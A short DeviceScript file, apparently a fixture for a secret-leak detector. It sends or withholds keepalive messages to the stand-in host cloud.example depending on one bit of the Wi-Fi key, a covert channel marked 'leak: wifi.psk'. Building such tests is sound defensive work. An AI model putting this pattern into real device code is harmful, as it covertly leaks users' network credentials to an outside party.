// D08: keeps the connection alive, or not, by the lowest bit of the last character.
import * as ds from "@devicescript/core";
import { connect } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const socket = await connect({ host: "cloud.example", port: 443, proto: "tls" });
  await socket.send("hello");
  for (let i = 0; i < 4; i++) {
    await ds.delay(5_000);
    if (psk.charCodeAt(psk.length - 1) % 2 === 0) await socket.send("still here"); // leak: wifi.psk
  }
});
